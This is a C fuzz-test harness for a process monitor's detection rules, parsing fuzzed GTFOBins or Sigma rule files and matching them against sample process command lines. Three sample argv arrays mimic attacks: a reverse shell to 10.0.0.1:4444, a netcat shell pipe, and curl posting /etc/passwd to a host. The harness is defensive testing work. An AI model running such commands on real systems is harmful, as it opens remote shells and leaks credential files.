/* SPDX-License-Identifier: MIT */
/* fuzz-rulefile: a rule file as a user (or a clone of a project's database) drops it in
 * [detection] gtfobins_dir or sigma_dir; the first byte picks the format. The YAML reader, the
 * GTFOBins or Sigma parser into rules, and the rules it makes matched against a few processes,
 * so what the parser builds is exercised too. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "monitor/cmdline.h"
#include "monitor/ruleset.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static char *argvs[][6] = {{"frob", "--exec", "/bin/sh", "10.0.0.1:4444", NULL},
	                           {"sh", "-c", "frob -e sh | nc x 1", NULL},
	                           {"/usr/bin/curl", "-d", "@/etc/passwd", "h", NULL}};
	struct ruleset *rs = NULL;

	if (size < 1 || size > RULESET_FILE_MAX || ruleset_new(&rs) < 0)
		return 0;
	(void)ruleset_add_text(rs, data[0] & 1 ? RULESET_SIGMA : RULESET_GTFOBINS, "/d/frob",
	                       (const char *)data + 1, size - 1, NULL);
	for (size_t i = 0; i < ruleset_count(rs); i++) {
		const struct ruleset_info *f = ruleset_get(rs, i);

		if (!f->rule->id || !f->rule->title || (!f->skipped && !f->summary))
			abort();
	}
	for (size_t i = 0; i < sizeof(argvs) / sizeof(argvs[0]); i++) {
		struct proc_obs p = {.argv = argvs[i], .parent = "sh<bash"};
		struct rule_hit hits[RULES_MAX_HITS];
		struct cmdline cl = {0};

		if (cmdline_from_argv(argvs[i], &cl) < 0)
			continue;
		if (ruleset_match_process(rs, &p, &cl, hits, RULES_MAX_HITS) > RULES_MAX_HITS)
			abort();
		cmdline_release(&cl);
	}
	ruleset_free(rs);
	return 0;
}
